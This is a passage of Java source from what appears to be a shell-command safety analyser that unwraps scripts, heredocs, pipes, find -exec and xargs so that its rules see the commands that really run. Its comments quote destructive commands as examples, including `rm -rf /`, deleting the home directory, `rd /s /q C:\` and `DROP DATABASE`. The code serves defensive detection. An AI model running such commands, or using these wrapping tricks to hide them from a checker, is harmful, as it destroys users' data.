     * Scripts written earlier in the text ({@code printf 'CMD' > x.sh}), by path as written
     * ({@code ./} dropped), so that running or sourcing the file later in the same text splits
     * what it holds.
     */
    private final Map<String, String> writtenScripts = new HashMap<>();

    /**
     * Per path written earlier in the text (keyed as {@link #writtenScripts}): the one segment
     * whose literal text is all the file holds, or -1 once a second write, an append, an edit, a
     * copy or link onto it, or a write that may not happen (in a branch, a loop, a function, after
     * {@code ||}, in the background) touched it.
     */
    private final Map<String, Integer> soleWriters = new HashMap<>();

    /**
     * A change of folder or a write to a path the text does not show came earlier: no written path
     * is then known to name the file a later run names.
     */
    private boolean wholeTextsUnsure;

    /**
     * The keys of every file the text writes (not counting the commands read out of written text
     * for a later run, {@link Provenance#LATER_FILE}): a run is known whole only when its file is
     * the one written, since another may be what it loads or the same file by another name.
     */
    private final Set<String> writtenKeys = new HashSet<>();

    /** True when {@code d} is, or lies inside, a command read out of written text for a later run. */
    private boolean inLaterFile(Draft d) {
        for (Draft p = d; p != null; p = p.parent >= 0 && p.parent < drafts.size() && p.parent != p.id ? drafts.get(p.parent) : null) {
            if (p.provenance == Provenance.LATER_FILE) {
                return true;
            }
        }
        return false;
    }

    /** Runs of wholly known written text: the run's segment id to its one writer's ({@link SplitResult#wholeWrites}). */
    private final Map<Integer, Integer> wholeWrites = new HashMap<>();

    /**
     * Records that {@code d} runs the file {@code path} names, whose text was split as its own
     * segments in full, when that text is all one unconditional write of the same top-level list
     * put in it: then the rules judged what runs ({@link SplitResult#wholeWrites}). A run in a
     * branch, loop, function, pipeline or the background is left to the write-then-run rules.
     */
    private void noteWholeRun(Draft d, String path) {
        Integer writer = soleWriters.get(WrittenFiles.key(path));
        // another file written before the run may be what the text loads (`require('./x')`, a
        // #! argument, make's SHELL, BASH_ENV) or the same file by another name (T.SH, sub/../t.sh)
        boolean onlyFile = writtenKeys.stream().allMatch(k -> k.equals(WrittenFiles.key(path)) || k.startsWith("/dev/"));
        if (writer != null && writer >= 0 && onlyFile && !wholeTextsUnsure && d.provenance == Provenance.TOP && d.depth == 0
                && !d.position.background() && d.position.stages() == 1 && !d.position.opBefore().equals("||")
                && d.reasons.isEmpty() && d.argv.stream().allMatch(Word::literal) && d.redirects.stream().allMatch(r -> r.target().literal())
                && quietBetween(writer, d.id)) {
            wholeWrites.put(d.id, writer);
        }
    }

    /**
     * True when every command between the write {@code writer} and the run {@code run} is quiet
     * ({@link #quietBetween(Draft)}); the write's own readings of its text ({@link Provenance#LATER_FILE}
     * payloads, which run nothing now) are not commands between.
     */
    private boolean quietBetween(int writer, int run) {
        Set<Integer> readings = new HashSet<>();
        for (Draft p : drafts.subList(writer + 1, run)) {
            if (p.parent == writer && p.provenance == Provenance.LATER_FILE || readings.contains(p.parent)) {
                readings.add(p.id);
            } else if (!quietBetween(p)) {
                return false;
            }
        }
        return true;
    }

    /** Commands that may stand between a script's write and its run: they change no file (chmod only its mode). */
    private static final Set<String> QUIET_BETWEEN = Set.of("chmod", "mkdir", "echo", "printf", "true", ":", "ls", "pwd", "cat", "head", "tail", "wc", "date", "sleep");

    /**
     * True when {@code p}, standing between a write and the run of its file, writes no file and
     * runs nothing: a command of {@link #QUIET_BETWEEN} with literal words, writing only to the
     * terminal or {@code /dev/null}. Anything else (a program that may edit the file unseen,
     * {@code python3 -c "open('t.sh','a')…"}, a write through a link) leaves the run unsure.
     */
    private static boolean quietBetween(Draft p) {
        return p.depth == 0 && !p.argv.isEmpty() && QUIET_BETWEEN.contains(p.argv.get(0).text()) && p.assignments.isEmpty()
                && p.reasons.isEmpty() && p.argv.stream().allMatch(Word::literal)
                && p.redirects.stream().allMatch(r -> !r.writes() || r.isDescriptorDup() || r.target().literal() && r.target().text().equals("/dev/null"));
    }

    /** Keeps {@link #soleWriters} and {@link #wholeTextsUnsure} for draft {@code d}'s writes (called before {@link #writtenScripts} changes). */
    private void noteWriters(Draft d, String name, String text) {
        if (name.equals("cd") || name.equals("pushd") || name.equals("popd")
                || d.redirects.stream().anyMatch(r -> r.writes() && !r.target().literal())
                || name.equals("tee") && !d.argv.stream().allMatch(Word::literal)) {
            wholeTextsUnsure = true;
        }
        boolean counted = !inLaterFile(d);
        java.util.function.Consumer<String> spoil = k -> {
            soleWriters.put(WrittenFiles.key(k), -1);
            if (counted) {
                writtenKeys.add(WrittenFiles.key(k));
            }
        };
        patchAdds(d, name).keySet().forEach(spoil);
        inPlaceAdds(d, name).keySet().forEach(spoil);
        copies(d, name).keySet().forEach(spoil);
        SedScript.InPlace sed = inPlaceSed(d, name);
        if (sed != null) {
            sed.files().forEach(spoil);
        }
        // `set -C`, `set -o noclobber`, zsh's setopt: a later `>` may fail and leave the old file
        if (name.equals("set") && d.argv.stream().skip(1).anyMatch(a -> !a.literal() || a.text().matches("-[a-zA-Z]*C[a-zA-Z]*") || a.text().contains("clobber"))
                || name.equals("setopt") || name.equals("unsetopt")) {
            wholeTextsUnsure = true;
        }
        boolean sure = text != null && d.provenance == Provenance.TOP && d.depth == 0 && !d.position.background()
                && !d.position.opBefore().equals("||") && !name.equals("tee") && wholeTextExact(d, name);
        Map<String, Boolean> modes = writtenFileModes(d, name);
        modes.forEach((path, append) -> {
            String key = WrittenFiles.key(path);
            soleWriters.put(key, sure && !append && modes.size() == 1 && !soleWriters.containsKey(key) ? d.id : -1);
            if (counted) {
                writtenKeys.add(key);
            }
        });
    }

    /**
     * True when the text {@link #writtenText} gives for {@code d} is surely what lands in its file:
     * the write truncates through standard output ({@code >}, not {@code <>} or {@code 3>}); echo and
     * printf hold no escape the shell may turn into other characters ({@code r\x6d}, zsh's echo
     * {@code \n}, printf's {@code %b}); a heredoc is cat's one input (no file operand, no second
     * heredoc or {@code <} that would replace it).
     */
    private static boolean wholeTextExact(Draft d, String name) {
        for (Redirect r : d.redirects) {
            if (r.writes() && !(r.fd() == -1 || r.fd() == 1) || r.writes() && !Set.of(">", ">|", "&>").contains(r.op())) {
                return false;
            }
        }
        List<String> args = d.argv.subList(1, d.argv.size()).stream().map(Word::text).toList();
        if (name.equals("echo")) {
            boolean e = args.stream().takeWhile(a -> a.matches("-[neE]+")).anyMatch(a -> a.contains("e"));
            String raw = String.join(" ", args);
            return e ? raw.replace("\\n", "").replace("\\t", "").indexOf('\\') < 0 : raw.indexOf('\\') < 0;
        }
        if (name.equals("printf")) {
            return !args.isEmpty() && !args.get(0).startsWith("-") && args.get(0).replace("\\n", "").replace("\\t", "").indexOf('\\') < 0
                    && args.subList(1, args.size()).stream().noneMatch(a -> a.contains("\\") || a.contains("%"))
                    && args.get(0).replace("%%", "").replace(args.size() > 1 ? "%s" : "%%", "").indexOf('%') < 0;
        }
        if (name.equals("cat")) {
            boolean otherInput = d.redirects.stream().anyMatch(r -> (r.fd() == -1 || r.fd() == 0) && Set.of("<", "<&", "<>").contains(r.op()));
            return d.heredocs.size() == 1 && !otherInput && args.stream().allMatch(a -> a.equals("-"));
        }
        return true;
    }

    /**
     * Records the literal text {@code d} writes to its files (after what the file held, for an
     * append); a write of unknown text forgets them.
     */
    private void rememberWrittenScripts(Draft d, String name) {
        // `cp x.sh y.sh`, `mv x.sh bin/`: the copy holds the text
        // a literal patch's added lines, and sed's a/i/c text, join what the file is known to hold
        patchAdds(d, name).forEach((path, added) -> writtenScripts.merge(path, added, String::concat));
        inPlaceAdds(d, name).forEach((f, added) -> writtenScripts.merge(f, added, String::concat));
        // `ln -s SRC DST` runs SRC's text when DST is run, as a copy would
        copies(d, name).forEach((dst, src) -> {
            if (writtenScripts.containsKey(src)) {
                writtenScripts.put(dst, writtenScripts.get(src));
            }
            if (editedStrings.containsKey(src)) {
                editedStrings.computeIfAbsent(dst, k -> new ArrayList<>()).addAll(editedStrings.get(src));
            }
        });
        // `sed -i 's/"test": ".*"/"test": "CMD"/' package.json`, `jq '.scripts.x="CMD"' package.json > p.json`:
        // the strings a literal edit puts into a file whose old text is not known
        SedScript.InPlace sed = inPlaceSed(d, name);
        if (sed != null && sed.program() != null) {
            List<String> strings = WrittenFiles.quotedStrings(sed.program());
            sed.files().forEach(f -> editedStrings.computeIfAbsent(WrittenFiles.key(f), k -> new ArrayList<>()).addAll(strings));
        }
        if (name.equals("jq") && d.argv.stream().allMatch(Word::literal)) {
            List<String> ops = d.argv.subList(1, d.argv.size()).stream().map(Word::text).filter(a -> !a.startsWith("-")).toList();
            if (!ops.isEmpty()) {
                List<String> strings = WrittenFiles.quotedStrings(ops.get(0));
                writtenFileModes(d, name).keySet().forEach(f -> editedStrings.computeIfAbsent(WrittenFiles.key(f), k -> new ArrayList<>()).addAll(strings));
            }
        }
        String text = writtenText(d, name);
        if (text == null && name.equals("tee") && d.heredocs.isEmpty()) {
            text = producerText(d);
        }
        noteWriters(d, name, text);
        String written = text;
        writtenFileModes(d, name).forEach((path, append) -> {
            String key = WrittenFiles.key(path);
            String before = append ? writtenScripts.getOrDefault(key, "") : "";
            if (written == null) {
                writtenScripts.remove(key);
            } else {
                writtenScripts.put(key, before + written);
            }
        });
    }

    /** Variables naming a file the shell sources when it starts: bash's {@code BASH_ENV}, POSIX {@code ENV}. */
    private static final Set<String> STARTUP_FILE_VARIABLES = Set.of("BASH_ENV", "ENV");

    /**
     * {@code printf 'CMD' > x.sh; bash x.sh}, {@code source x.sh}, {@code BASH_ENV=x.sh bash -c …},
     * {@code . <(echo 'CMD')}: a shell runs a script whose text the same command line wrote, or a
     * process substitution prints as literal text. That text is split as a script of this
     * segment, so its commands meet the rules. Only adds segments; the reasons that ask about
     * running a written or substituted script stay, unless the text run is known whole ({@link #noteWholeRun}).
     */
    private void scriptsRun(Draft d, String name, List<String> wrappers) {
        boolean shell = Wrappers.SHELLS.contains(name);
        if (!shell && !name.equals("source") && !name.equals(".") || d.depth + 1 > MAX_DEPTH) {
            return;
        }
        List<Word> files = new ArrayList<>();
        if (shell) {
            d.assignments.stream().filter(a -> STARTUP_FILE_VARIABLES.contains(ShellEvaluation.referencedName(a.text())))
                    .map(a -> new Word(ShellEvaluation.assignedValue(a.text()), a.raw(), a.literal(), a.features()))
                    .forEach(files::add);
        }
        d.argv.stream().skip(1).filter(w -> !w.text().startsWith("-")).findFirst()
                .filter(w -> !shell || d.argv.stream().noneMatch(a -> a.text().matches("-[a-z]*c[a-z]*")))
                .ifPresent(files::add);
        for (Word file : files) {
            String text = file.literal() ? writtenScripts.get(WrittenFiles.key(file.text()))
                    : file.has(WordFeature.PROCESS_SUBSTITUTION) ? processSubstitutionText(d) : null;
            if (text != null && !text.isBlank()) {
                nested(text, childCtx(d, Provenance.HEREDOC_SCRIPT, wrappers));
                if (files.size() == 1 && file.literal() && d.assignments.isEmpty()) {
                    noteWholeRun(d, file.text());
                }
            }
        }
    }

    /**
     * {@code printf 'Host *\n ProxyCommand …' | ssh -F /dev/stdin x}, {@code ssh -F <(printf …) x},
     * {@code printf … > c && ssh -F c x}: an ssh configuration ({@link SshConfigFile}) whose text
     * the command line prints, or wrote to the file earlier, is handed to the command as its
     * here-document (as curl's {@code -K -} text is), for the engine to read its keys. Text that is
     * not known ({@code vagrant ssh-config | ssh -F /dev/stdin default}) adds nothing.
     */
    private void sshConfigText(Draft d, String name) {
        Word file = SshConfigFile.of(name, d.argv);
        if (file == null) {
            return;
        }
        String text = null;
        if (file.literal() && SshConfigFile.STDIN_PATHS.contains(file.text())) {
            // a here-document or here-string is already the command's text
            text = d.heredocs.isEmpty() && d.position.stage() > 0 ? literalProducerText(d) : null;
        } else if (file.has(WordFeature.PROCESS_SUBSTITUTION)) {
            text = runningConfig(processSubstitutionText(d));
        } else if (file.literal()) {
            text = runningConfig(writtenScripts.get(WrittenFiles.key(file.text())));
        }
        if (text != null && !text.isBlank()) {
            d.heredocs.add(new Heredoc(text, true));
        }
    }

    /** A configuration line that names a program ssh runs: ProxyCommand, LocalCommand, KnownHostsCommand, Match … exec, a provider library. */
    private static final Pattern SSH_RUNNING_KEY = Pattern.compile(
            "(?im)^\\s*[\"']?(" + String.join("|", SshConfigFile.PROGRAM_KEYS) + "|match\\b.*\\bexec)\\b");

    /**
     * {@code text} when it names a program ssh runs, else null. WHY: the text is handed on as the
     * command's here-document, and a here-document is standard input to every other rule: ssh
     * given a file ({@code -F c}, {@code -F <(…)}) still reads the terminal, and a plain
     * configuration handed on would hide an interactive login from SW7009. Only a configuration
     * the engine must read for SW4017 is handed on, and that one is judged by SW4017 anyway.
     */
    private static String runningConfig(String text) {
        return text != null && SSH_RUNNING_KEY.matcher(text).find() ? text : null;
    }

    /**
     * What the one process substitution in {@code d}'s words prints, when its only command prints
     * literal text; null when there are several, or it prints anything else.
     */
    private String processSubstitutionText(Draft d) {
        // a wrapped command's words are its wrapper's (`env ssh -F <(…)`, `nice ssh …`): the
        // substitution hangs under the outermost draft of the wrapper chain
        Set<Integer> owners = new HashSet<>();
        owners.add(d.id);
        for (Draft w = d; w.provenance == Provenance.WRAPPED && w.parent >= 0; w = drafts.get(w.parent)) {
            owners.add(w.parent);
        }
        Draft only = null;
        for (Draft p : drafts) {
            if (owners.contains(p.parent) && p.provenance == Provenance.PROCESS_SUBSTITUTION) {
                if (only != null) {
                    return null;
                }
                only = p;
            }
        }
        return only == null || only.argv.isEmpty() || !only.redirects.isEmpty() ? null : writtenText(only, only.argv.get(0).text());
    }

    /**
     * The child shell of {@code X=V bash -c '…'} starts with the literal values its command's
     * assignments put in its environment ({@code x='a[$(CMD)]' bash -c 'echo $((x))'}).
     */
    /**
     * {@code sh -c SCRIPT NAME ARG…}: the script sees NAME as {@code $0} and the ARGs as its
     * positional parameters. They are known when every word is literal
     * ({@code bash -c 'rm -rf "$1"' _ ~} is the home directory), and for the one path a
     * {@code find -exec … \;} hands to each run ({@code find . -exec sh -c 'mv "$1" "$1.bak"' _ {} \;}:
     * START/{find}, as in the command written directly). With {@code -exec … +} find appends any
     * number of paths, so the parameters stay unknown; so they do for anything else not literal.
     */
    private void scriptParameters(Vars v, List<Word> after, Draft d) {
        if (substituted(d.wrappers) && (after.stream().anyMatch(w -> w.text().contains("{"))
                || d.parent < 0 || drafts.get(d.parent).argv.stream().anyMatch(w -> w.text().matches("-[IiXm].*|--(replace|rpl|xargs|plus).*")))) {
            // parallel put its arguments in place of {} words already; other replacement strings are not known
            return;
        }
        if (after.isEmpty()) {
            v.positional = List.of();
            return;
        }
        List<Word> rest = after.subList(1, after.size());
        boolean oneFoundPath = d.provenance == Provenance.FIND_EXEC && d.parent >= 0 && !findAppendsPaths(drafts.get(d.parent));
        // with `{} +` too, $0 is one found path (the first); the others are $1…, how many is not known
        boolean foundZero = d.provenance == Provenance.FIND_EXEC && d.parent >= 0
                && drafts.get(d.parent).argv.stream().anyMatch(w -> w.text().equals(";") || w.text().equals("+"));
        v.zero = after.get(0).literal() || foundZero && isFoundPath(after.get(0)) ? after.get(0) : null;
        if (rest.stream().allMatch(Word::literal)) {
            v.positional = List.copyOf(rest);
        } else if (oneFoundPath && rest.size() == 1 && isFoundPath(rest.get(0))) {
            v.positional = List.copyOf(rest);
        }
    }

    /** The programs whose {@code find -exec} deletes what find walks (as the engine reads find). */
    private static final Set<String> FIND_DELETERS = Set.of("rm", "rmdir", "unlink", "shred", "srm", "wipe", "truncate");

    /**
     * {@code find / -maxdepth 1 -exec sh -c 'rm -rf "$0"' {} \;}: a script that deletes the path
     * find hands it ({@code $0}, {@code $1}, known as START/{find}, see {@link #scriptParameters})
     * deletes what find walks, as {@code find / -maxdepth 1 -exec rm -rf {} \;} does. For each
     * such delete among the commands the -exec command runs, the find is recorded once more with
     * that command in place of its -exec command, the path back as {@code {}}, so that the rules
     * judge its start points and tests as in the direct form. Only adds segments.
     */
    private void foundPathDeletes(Draft find, Draft exec) {
        String found = exec.argv.stream().filter(BashWalker::isFoundPath).map(Word::text).findFirst().orElse(null);
        if (found == null) {
            return;
        }
        int end = drafts.size();
        for (int k = exec.id + 1; k < end; k++) {
            Draft r = drafts.get(k);
            if (r.argv.isEmpty() || !r.argv.get(0).literal() || !descends(r, exec.id)) {
                continue;
            }
            String program = r.argv.get(0).text().substring(r.argv.get(0).text().lastIndexOf('/') + 1);
            if (!FIND_DELETERS.contains(program) || r.argv.stream().skip(1).noneMatch(w -> w.text().contains(found))) {
                continue;
            }
            List<Word> argv = findWithCommand(find.argv, exec.argv, r.argv, found);
            if (argv != null) {
                add(new Draft(drafts.size(), find.parent, find.depth, find.provenance, find.wrappers, argv, List.of(),
                        find.redirects, find.heredocs, find.position));
            }
        }
    }

    /** True when {@code d} is {@code ancestor} or nested in it. */
    private boolean descends(Draft d, int ancestor) {
        for (int p = d.id; p >= 0; p = drafts.get(p).parent) {
            if (p == ancestor) {
                return true;
            }
        }
        return false;
    }

    /** find's words with the -exec command {@code exec} replaced by {@code command}, the found path as {@code {}}; null when not found. */
    private static List<Word> findWithCommand(List<Word> find, List<Word> exec, List<Word> command, String found) {
        for (int k = 1; k < find.size(); k++) {
            if (!Set.of("-exec", "-execdir", "-ok", "-okdir").contains(find.get(k).text())) {
                continue;
            }
            int end = k + 1;
            while (end < find.size() && !find.get(end).text().equals(";") && !find.get(end).text().equals("+")) {
                end++;
            }
            if (end - k - 1 == exec.size() && find.get(k + 1).text().equals(exec.get(0).text())) {
                List<Word> out = new ArrayList<>(find.subList(0, k + 1));
                for (Word w : command) {
                    out.add(w.text().contains(found) ? new Word(w.text().replace(found, "{}"), w.raw(), w.literal(), w.features()) : w);
                }
                out.addAll(find.subList(end, find.size()));
                return out;
            }
            k = end;
        }
        return null;
    }

    /** A path find hands to its -exec command: the start folder and the placeholder (see Wrappers.find). */
    private static boolean isFoundPath(Word w) {
        return !w.literal() && w.text().endsWith("/{find}") && w.text().indexOf('{') == w.text().length() - 6;
    }

    /** True when a find command has an {@code -exec … {} +}, which appends many paths to one run. */
    private static boolean findAppendsPaths(Draft find) {
        return find.argv.stream().anyMatch(w -> w.text().equals("+")) || find.argv.stream().noneMatch(w -> w.text().equals(";"));
    }

    /**
     * True inside the command of {@code parallel} or {@code xargs}: they put their arguments into
     * the words and the text themselves ({@code parallel 'x={}; rm -rf "$x"' ::: /}), so a value
     * written there ({@code x={}}, {@code set -- {}}, {@code sh -c '…' _ {}}) is not known.
     */
    private static boolean substituted(List<String> wrappers) {
        return wrappers.contains("parallel") || wrappers.contains("xargs");
    }

    private static Ctx withEnvironment(Ctx inner, List<Word> assignments) {
        for (Word a : assignments) {
            String name = ShellEvaluation.referencedName(a.text());
            String value = ShellEvaluation.assignedValue(a.text());
            if (a.literal() && value != null && ShellEvaluation.subscript(a.text()) == null && !value.startsWith("(")) {
                inner.vars().known.put(name, value);
            }
        }
        return inner;
    }

    private static boolean readsScriptFile(String name) {
        return Wrappers.SHELLS.contains(name) || name.equals("source") || name.equals(".")
                || dev.shellwarden.grammar.bash.Names.versioned(name, "python") || name.equals("node")
                || dev.shellwarden.grammar.bash.Names.versioned(name, "perl")
                || dev.shellwarden.grammar.bash.Names.versioned(name, "ruby")
                || dev.shellwarden.grammar.bash.Names.versioned(name, "php");
    }

    /** An interpreter reading its program from standard input. */
    private void stdinScript(Draft d, Wrappers.Unwrap w, Ctx inner, boolean stdinFile) {
        if (!d.heredocs.isEmpty()) {
            if (!w.shell()) {
                // the body is attached to the segment for rules to read; unless the shell expands
                // it first, then the program is not known
                if (d.heredocDynamic.stream().anyMatch(Boolean::booleanValue)) {
                    d.reasons.add(OpaqueReason.DYNAMIC_PAYLOAD);
                }
                d.heredocs.forEach(h -> {
                    if (isCmdExe(d)) {
                        cmdExe(d, h.body(), inner); // `cmd <<EOF`: the body is cmd.exe's command lines
                    } else {
                        programCommands(d, h.body(), inner);
                    }
                });
                return;
            }
            for (int i = 0; i < d.heredocs.size(); i++) {
                Heredoc h = d.heredocs.get(i);
                if (i < d.heredocDynamic.size() && d.heredocDynamic.get(i)) {
                    d.reasons.add(OpaqueReason.DYNAMIC_PAYLOAD);
                }
                nested(h.body(), inner);
            }
        } else if (d.position.stage() > 0 || stdinFile) {
            // `echo 'rm -rf /' | sh`: when the stage before prints literal text, that text is the
            // script; its commands are split too, so the floor sees them. For a shell the script is
            // then known exactly, as a here-string's is (`sh <<< 'TEXT'`), and is judged as that
            // is: no opaque reason. A file on standard input (`… | sh < f`) replaces the pipe, and
            // any other interpreter's program is read only in part: those stay opaque.
            // any redirection of standard input (`<&3`, `0<>f`) replaces the pipe too
            boolean stdinRedirected = stdinFile || d.redirects.stream().anyMatch(r -> r.op().startsWith("<") || r.fd() == 0);
            List<String> readings = d.position.stage() > 0 && !stdinRedirected ? literalProducerTexts(d) : List.of();
            String script = readings.size() == 1 ? readings.get(0) : null;
            if (readings.isEmpty() || !w.shell()) {
                d.reasons.add(OpaqueReason.INTERPRETER_SCRIPT);
            }
            List<String> asWritten = readings.isEmpty() && w.shell() && d.position.stage() > 0 && !stdinRedirected
                    ? literalProducerTexts(d, true) : List.of();
            if (!readings.isEmpty() && w.shell()) {
                // `echo 'printf '\''a\nb'\'' | make -f -' | bash`: echo's text with a backslash is
                // read both as bash's echo prints it (as written) and as zsh's or `echo -e` does
                // (escapes replaced); both scripts are split, so the worse of the two decides
                readings.forEach(r -> nested(r, inner));
            } else if (!asWritten.isEmpty()) {
                // `echo 'python3 -c '\''…b"\0"…'\''' | bash`: zsh's reading holds an escape not read
                // here (\0 to a NUL, a code point, \e), so the script stays opaque; bash's echo prints the
                // text as written, which is split as well, so the floor sees its commands
                asWritten.forEach(r -> nested(r, inner));
            } else if (script != null && isCmdExe(d)) {
                // `echo rd /s /q C:\ | cmd`: cmd.exe reads the printed text as its command lines
                cmdExe(d, script, inner);
            } else if (script != null) {
                programCommands(d, script, inner);
            }
        }
    }

    /**
     * ssh's standard input run by the remote shell ({@link Wrappers.Kind#REMOTE_STDIN_SCRIPT}): a
     * here-document or here-string, or the literal text the stage before prints
     * ({@code echo 'df -h' | ssh host}), is split as ssh's command line is, so a floor command
     * there meets the rules as {@code ssh host 'CMD'} does. A dynamic body is a dynamic payload,
     * as a dynamic remote command is, and so is text another program prints ({@code printf "$C" |
     * ssh host}, {@code cat x.sh | ssh host bash}: {@code ssh host "$(…)"}); a file redirected in
     * ({@code ssh host bash -s < deploy.sh}) adds nothing, as {@code ssh host 'bash deploy.sh'} and
     * the local {@code bash deploy.sh} do not (it runs on another machine, unlike {@code … | sh}).
     */
    private void remoteStdinScript(Draft d, Ctx inner) {
        List<String> texts = new ArrayList<>();
        for (int i = 0; i < d.heredocs.size(); i++) {
            if (i < d.heredocDynamic.size() && d.heredocDynamic.get(i)) {
                d.reasons.add(OpaqueReason.DYNAMIC_PAYLOAD);
            }
            texts.add(d.heredocs.get(i).body());
        }
        if (d.heredocs.isEmpty() && d.position.stage() > 0) {
            String script = literalProducerText(d);
            if (script != null) {
                texts.add(script);
            } else {
                d.reasons.add(OpaqueReason.DYNAMIC_PAYLOAD); // a program's output, as `ssh host "$(…)"`
            }
        }
        for (String text : texts) {
            nested(text, inner);
        }
    }

    /**
     * The command lines an interpreter's program read on standard input hands to the system as
     * literal strings ({@code perl <<< 'system q{…}'}, {@code echo 'exec rm …' | tclsh}; see
     * InlineCode), split too so the floor sees them, as for {@code perl -e}; this only adds
     * segments, the program is still judged as code.
     */
    private void programCommands(Draft d, String program, Ctx inner) {
        String path = d.argv.get(0).text();
        for (String line : InlineCode.commands(program, path.substring(path.lastIndexOf('/') + 1))) {
            nested(line, inner);
        }
    }

    /** xargs options that change how its input becomes arguments (files, delimiters, end marker, replacement). */
    private static final Pattern XARGS_INPUT_OPTION = Pattern.compile(
            "-[^-]*[a0dEIie].*|--(arg-file|null|delimiter|eof|replace)(=.*)?");

    /**
     * {@code echo ~ | xargs rm -rf}: when the stage before xargs prints literal words, the command
     * xargs runs is known: its words plus those words. Null when the input or the options make it
     * anything else (a replacement string, other delimiters, quotes xargs would interpret). The
     * placeholder reading stays beside it: this only adds the resolved command for the rules.
     */
    private List<Word> xargsWithLiteralInput(Draft d, List<Word> command) {
        if (d.position.stage() == 0 || command.isEmpty() || command.get(command.size() - 1).literal()
                || !command.get(command.size() - 1).text().equals("{xargs}")) {
            return null;
        }
        int optionsEnd = d.argv.size() - (command.size() - 1);
        for (Word o : d.argv.subList(1, Math.max(1, optionsEnd))) {
            if (XARGS_INPUT_OPTION.matcher(o.text()).matches()) {
                return null;
            }
        }
        String text = literalProducerText(d);
        if (text == null || text.isBlank() || text.indexOf('\'') >= 0 || text.indexOf('"') >= 0) {
            return null;
        }
        List<Word> out = new ArrayList<>(command.subList(0, command.size() - 1));
        for (String item : text.trim().split("\\s+")) {
            out.add(HOME_WORD.matcher(item).matches() ? new Word(item, item, false, Set.of(WordFeature.PARAMETER))
                    : new Word(item, item, true, Set.of()));
        }
        return out;
    }

    /**
     * A printed word that is the home directory, maybe with a literal path below it
     * ({@code $HOME}, {@code ${HOME}/x}): HOME is always set for an agent and has no blanks, so
     * {@code echo $HOME | xargs rm -rf} deletes the home directory. The word stays dynamic for the
     * rules, which resolve the HOME spellings.
     */
    private static final Pattern HOME_WORD = Pattern.compile("\\$(HOME|\\{HOME\\})(/[\\w./-]*)?");

    /**
     * {@code make -f - <<< 'all:; CMD'}, {@code sqlite3 db <<< '.shell CMD'}, {@code printf … | mysql}:
     * programs that read commands on standard input and can run shell commands from them. The shell
     * commands of a literal heredoc, here-string or echoed text are split as segments. When make's
     * makefile comes from input that is not known, the segment is opaque (the recipes could be
     * anything); the database consoles read dumps from files every day, so unknown input to them
     * adds nothing.
     */
    private void stdinShellCommands(Draft d, String name, List<String> wrappers, boolean stdinFile) {
        if (Launchers.stdinShellCommands(name, d.argv, "") == null) {
            // `printf 'upload-file = …' | curl -K -`: the options are the printed text, read as a here-document
            // `echo 'DROP TABLE t;' | sqlplus …`: a console without a shell escape still runs the printed statements
            if ((Launchers.readsOptionsFromStdin(name, d.argv) || Launchers.readsStatementsFromStdin(name))
                    && d.heredocs.isEmpty() && d.position.stage() > 0) {
                String text = literalProducerText(d);
                if (text != null) {
                    d.heredocs.add(new Heredoc(text, true));
                }
            }
            return;
        }
        List<String> texts = new ArrayList<>();
        boolean unknown = false;
        if (!d.heredocs.isEmpty()) {
            for (int i = 0; i < d.heredocs.size(); i++) {
                unknown |= i < d.heredocDynamic.size() && d.heredocDynamic.get(i);
                texts.add(d.heredocs.get(i).body());
            }
        } else if (d.position.stage() > 0) {
            String text = literalProducerText(d);
            unknown = text == null;
            if (text != null) {
                texts.add(text);
                // `echo 'DROP DATABASE x;' | psql`: the console reads the echoed text as if it were
                // a here-document, so the rules that read a here-document's SQL read this too
                d.heredocs.add(new Heredoc(text, true));
            }
        } else {
            unknown = stdinFile;
        }
        if (unknown && (name.equals("make") || name.equals("gmake"))) {
            d.reasons.add(OpaqueReason.INTERPRETER_SCRIPT);
        }
        Ctx inner = childCtx(d, Provenance.HEREDOC_SCRIPT, wrappers);
        for (String text : texts) {
            for (String command : Launchers.stdinShellCommands(name, d.argv, text)) {
                if (d.depth + 1 <= MAX_DEPTH) {
                    nested(command, inner);
                }
            }
        }
    }

    /**
     * Wrappers that start their command with their own descriptors and print nothing themselves:
     * what their command prints is what they print, and what is piped into them is what their
     * command reads ({@code echo … | sudo sh}).
     */
    private static final Set<String> PRINT_THROUGH = Set.of("env", "nice", "nohup", "timeout", "stdbuf", "setsid",
            "sudo", "doas", "command", "builtin", "exec", "ionice", "chrt", "taskset", "busybox");

    /** sudo's options that make sudo itself read standard input (the password), before its command does. */
    private static final Pattern SUDO_READS_STDIN = Pattern.compile("-[a-zA-Z]*S[a-zA-Z]*|--stdin");

    /**
     * The draft whose place in its pipeline {@code d} takes: {@code d} itself, or the outermost of
     * the {@link #PRINT_THROUGH} wrappers that started it in their own place ({@code echo 'ls' |
     * sudo -u root sh}: the shell reads what is piped into sudo). A wrapper that reads its input
     * itself ({@code xargs sh}, {@code find -exec sh}, {@code sudo -S}) ends the chain.
     */
    private Draft pipelinePlace(Draft d) {
        Draft at = d;
        while (at.provenance == Provenance.WRAPPED && at.parent >= 0 && at.parent < drafts.size()) {
            Draft up = drafts.get(at.parent);
            if (up.id != at.parent || !up.position.equals(at.position) || up.argv.size() <= at.argv.size()) {
                break;
            }
            String name = up.argv.get(0).text().substring(up.argv.get(0).text().lastIndexOf('/') + 1);
            List<Word> own = up.argv.subList(1, up.argv.size() - at.argv.size());
            if (!PRINT_THROUGH.contains(name)
                    || name.equals("sudo") && own.stream().anyMatch(w -> SUDO_READS_STDIN.matcher(w.text()).matches())) {
                break;
            }
            at = up;
        }
        return at;
    }

    /**
     * The exact text the previous stage of {@code consumer}'s pipeline prints (the stage before the
     * wrappers that started it in their place, {@link #pipelinePlace}), when it is {@code echo} or
     * {@code printf} of literal words without escapes or format directives; null otherwise.
     */
    private String literalProducerText(Draft consumer) {
        List<String> readings = literalProducerTexts(consumer);
        return readings.size() == 1 ? readings.get(0) : null;
    }

    /**
     * Every text the previous stage of {@code consumer}'s pipeline may print (as
     * {@link #literalProducerText}): one text, or for {@code echo} of words with a backslash and no
     * {@code -e}/{@code -E} flag two, as written (bash's echo) and with its escapes replaced (zsh's
     * echo, bash's with {@code xpg_echo}); empty when the text is not known.
     */
    private List<String> literalProducerTexts(Draft consumer) {
        return literalProducerTexts(consumer, false);
    }

    /**
     * As {@link #literalProducerTexts(Draft)}; with {@code asWritten}, for {@code echo} without
     * {@code -e}/{@code -E} whose escapes are not read here ({@link #echoEscapes} null), the one
     * text bash's echo prints (the caller keeps the text opaque: zsh's reading is not known).
     */
    private List<String> literalProducerTexts(Draft consumer, boolean asWritten) {
        Draft d = pipelinePlace(consumer);
        for (int k = drafts.size() - 1; k >= 0; k--) {
            Draft p = drafts.get(k);
            if (p.parent != d.parent || p.depth != d.depth || p.position.item() != d.position.item()
